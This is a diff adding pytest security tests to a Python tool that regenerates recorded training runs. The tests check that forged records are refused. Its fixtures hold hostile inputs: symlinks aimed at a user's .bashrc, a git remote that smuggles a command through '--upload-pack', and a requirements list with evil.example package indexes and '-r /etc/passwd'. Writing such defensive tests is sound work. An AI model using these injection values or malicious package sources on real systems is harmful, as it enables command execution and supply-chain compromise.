@@ -2,6 +2,7 @@
 uncommitted change and a new untracked module, started from outside the repository, it is
 checked out again (the recorded diff applied), rerun, and logs exactly the same losses."""
 
+import shlex
 import subprocess
 import sys
 import textwrap
@@ -10,7 +11,7 @@ from pathlib import Path
 import pytest
 
 import labstats
-from labstats import cli, schema
+from labstats import cli, regenerate, schema
 
 TRAIN_V1 = """
 import sys
@@ -79,7 +80,13 @@ def test_a_run_started_outside_its_repository_regenerates_exactly(repo, tmp_path
     assert said.returncode == 0, said.stderr
     assert "note: the run started outside its repository" in said.stderr
     assert f"run it:\n  cd {target} && python train.py --seed 7" in said.stdout
-    assert (target / "requirements.txt").read_text() == run.freeze()
+    # The packages as recorded, but for lines no other machine could install (an editable
+    # install's -e /path, name @ file:///...): left out, and each one said.
+    kept, left_out = regenerate.checked_freeze(run.freeze())
+    assert (target / "requirements.txt").read_text() == kept
+    assert "numpy==" in kept
+    for line in left_out:
+        assert f"left out of requirements.txt: {line!r}" in said.stderr
     regenerated = lab.runs(limit=1)[0]
     assert regenerated.id != original
     assert regenerated.config == run.config
@@ -177,7 +184,6 @@ def test_a_run_started_with_python_c_has_no_command_to_run_again(repo, tmp_path,
     assert done.returncode == 1
     assert done.stderr.strip().splitlines()[-1] == f"labstats: run {run.id}: {said}"
     assert (again / "train.py").exists()  # the code is still checked out
-    from labstats import regenerate
 
     notebook = {"argv": ["/usr/bin/python3", "/venv/lib/ipykernel_launcher.py", "-f", "/k.json"]}
     assert regenerate.plan("r", notebook).no_command.startswith("started from a notebook")
@@ -185,3 +191,161 @@ def test_a_run_started_with_python_c_has_no_command_to_run_again(repo, tmp_path,
     assert regenerate.plan("r", repl).no_command.startswith("started from an interactive session")
     assert regenerate.plan("r", {"argv": ["/usr/bin/python3", "t.py", "--lr", "1"]}).no_command == ""
     assert regenerate.plan("r", {}).no_command == "its command line was not recorded: no command to run"
+
+
+# ---- the record is hostile: any training user may rewrite another's diff, packages, remote ----
+
+
+def symlink_diff(repo, links: dict[str, str]) -> str:
+    """A diff, as git writes it, that adds these symlinks (path -> target) to ``repo``'s HEAD."""
+    scratch = repo.parent / "symlink-scratch"
+    git(repo.parent, "clone", "-q", str(repo), str(scratch))
+    for path, target in links.items():
+        (scratch / path).parent.mkdir(parents=True, exist_ok=True)
+        (scratch / path).symlink_to(target)
+    git(scratch, "add", "-A")
+    return subprocess.run(["git", "diff", "--cached", "--binary", "HEAD"], cwd=scratch,
+                          capture_output=True, text=True, check=True).stdout  # fmt: skip
+
+
+@pytest.fixture
+def forged(repo, tmp_path, url, monkeypatch):
+    """A run of ``repo``, and the hostile things an insider may write into its record."""
+    run_id = train(repo, "train.py", url, monkeypatch)
+    lab = labstats.connect(url)
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / ".bashrc").write_text("# the victim's shell startup\n")
+    return lab, run_id, home / ".bashrc"
+
+
+@pytest.mark.parametrize("target", ["absolute", "relative"])
+def test_a_diff_that_makes_requirements_txt_a_link_out_of_the_checkout_is_refused(
+    forged, repo, tmp_path, capsys, target
+):
+    lab, run_id, bashrc = forged
+    link = str(bashrc) if target == "absolute" else "../home/.bashrc"
+    lab.redis.set(schema.Keys().diff(run_id), symlink_diff(repo, {"requirements.txt": link}))
+    lab.redis.hset(schema.Keys().run(run_id), "git_dirty", "1")
+    lab.redis.set(schema.Keys().freeze(run_id), "evil==1.0\n")
+    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 1
+    said = capsys.readouterr().err
+    assert f"requirements.txt -> {link} leaves the checkout" in said
+    assert bashrc.read_text() == "# the victim's shell startup\n"  # never written through
+    assert not (tmp_path / "checkout" / "requirements.txt").is_symlink()  # never created either
+
+
+def test_links_that_leave_the_checkout_only_once_resolved_are_refused_after_applying(
+    forged, repo, tmp_path, capsys
+):
+    # Each link reads as inside on its own (d -> ., e -> d/../home/.bashrc), but e resolves
+    # through d to the checkout's parent: only the tree as applied shows it.
+    lab, run_id, bashrc = forged
+    lab.redis.set(
+        schema.Keys().diff(run_id), symlink_diff(repo, {"d": ".", "requirements.txt": "d/../home/.bashrc"})
+    )
+    lab.redis.hset(schema.Keys().run(run_id), "git_dirty", "1")
+    lab.redis.set(schema.Keys().freeze(run_id), "evil==1.0\n")
+    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 1
+    said = capsys.readouterr().err
+    assert "requirements.txt -> d/../home/.bashrc leaves the checkout" in said
+    assert bashrc.read_text() == "# the victim's shell startup\n"
+    assert not (tmp_path / "checkout" / "requirements.txt").exists()  # the link was removed
+
+
+def test_requirements_txt_is_written_without_following_a_link(tmp_path):
+    from labstats import regenerate
+
+    outside = tmp_path / "outside.txt"
+    outside.write_text("mine\n")
+    checkout = tmp_path / "checkout"
+    checkout.mkdir()
+    (checkout / "requirements.txt").symlink_to(outside)
+    with pytest.raises(labstats.LabstatsError, match="not a regular file"):
+        regenerate.write_inside(checkout, "requirements.txt", "evil==1.0\n")
+    assert outside.read_text() == "mine\n"
+    (checkout / "requirements.txt").unlink()
+    regenerate.write_inside(checkout, "requirements.txt", "numpy==2.0.0\n")
+    assert (checkout / "requirements.txt").read_text() == "numpy==2.0.0\n"
+
+
+def test_a_remote_that_looks_like_an_option_is_never_taken_as_one(forged, tmp_path, capsys):
+    lab, run_id, _ = forged
+    pwned = tmp_path / "pwned"
+    remote = f"--upload-pack=touch {pwned};"
+    lab.redis.hset(schema.Keys().run(run_id), "git_remote", remote)
+    recipe = lab.run(run_id).regenerate_command().splitlines()
+    assert f"git clone -- {shlex.quote(remote)} DIR" in recipe
+    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 1
+    said = capsys.readouterr().err
+    assert f"clone --quiet -- {shlex.quote(remote)}" in said
+    assert f"repository {remote!r} does not exist" in said
+    assert not pwned.exists()
+
+
+def test_a_recorded_commit_or_folder_that_is_not_one_is_refused(forged, tmp_path, capsys):
+    lab, run_id, _ = forged
+    key = schema.Keys().run(run_id)
+    real = lab.run(run_id).meta["git_commit"]
+    lab.redis.hset(key, "git_commit", "--orphan=x")
+    assert "git checkout --detach" not in lab.run(run_id).regenerate_command()
+    assert cli.main(["regenerate", run_id, str(tmp_path / "a")]) == 1
+    assert "is not a commit id" in capsys.readouterr().err
+    lab.redis.hset(key, mapping={"git_commit": real, "cwd_in_repo": "../.."})
+    assert cli.main(["regenerate", run_id, str(tmp_path / "b")]) == 1
+    assert "outside the checkout" in capsys.readouterr().err
+
+
+HOSTILE_FREEZE = """\
+# a comment stays
+numpy==1.26.4
+torch[cuda]==2.3.0
+python=3.11.5=h955ad1f_0
+--index-url https://evil.example/simple
+--extra-index-url=https://evil.example/simple
+-i https://evil.example/simple
+--find-links /tmp/wheels
+-e git+https://evil.example/x.git#egg=x
+-r /etc/passwd
+-c constraints.txt
+evil @ https://evil.example/evil-1.0.whl
+git+https://evil.example/y.git
+./local/pkg
+/abs/path/pkg
+evil.tar.gz
+evil==1.0+tar.gz
+requests==2.0 --hash=sha256:abcd
+ok==1.0 \\
+nice==${HOME}
+"""
+
+
+def test_only_plain_pinned_packages_reach_requirements_txt(forged, tmp_path, capsys):
+    lab, run_id, _ = forged
+    lab.redis.set(schema.Keys().freeze(run_id), HOSTILE_FREEZE)
+    assert "--freeze --checked > requirements.txt" in lab.run(run_id).regenerate_command()
+    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 0
+    written = (tmp_path / "checkout" / "requirements.txt").read_text()
+    assert written.splitlines() == ["# a comment stays", "numpy==1.26.4", "torch[cuda]==2.3.0",
+                                    "python=3.11.5=h955ad1f_0"]  # fmt: skip
+    err = capsys.readouterr().err
+    for line in HOSTILE_FREEZE.splitlines()[4:]:
+        assert f"left out of requirements.txt: {line!r}" in err
+    # The recipe's own step gives the same lines.
+    assert cli.main(["show", run_id, "--freeze", "--checked"]) == 0
+    assert capsys.readouterr().out == written
+
+
+def test_nothing_recorded_is_executed_without_run(forged, repo, tmp_path):
+    lab, run_id, _ = forged
+    marker = tmp_path / "ran"
+    (repo / "train.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
+    diff = subprocess.run(
+        ["git", "diff", "--binary", "HEAD"], cwd=repo, capture_output=True, text=True
+    ).stdout
+    lab.redis.set(schema.Keys().diff(run_id), diff)
+    assert cli.main(["regenerate", run_id, str(tmp_path / "checkout")]) == 0
+    assert (tmp_path / "checkout" / "train.py").read_text().startswith("open(")
+    assert not marker.exists()
+    assert cli.main(["regenerate", run_id, str(tmp_path / "again"), "--run"]) == 0
+    assert marker.read_text() == "ran"
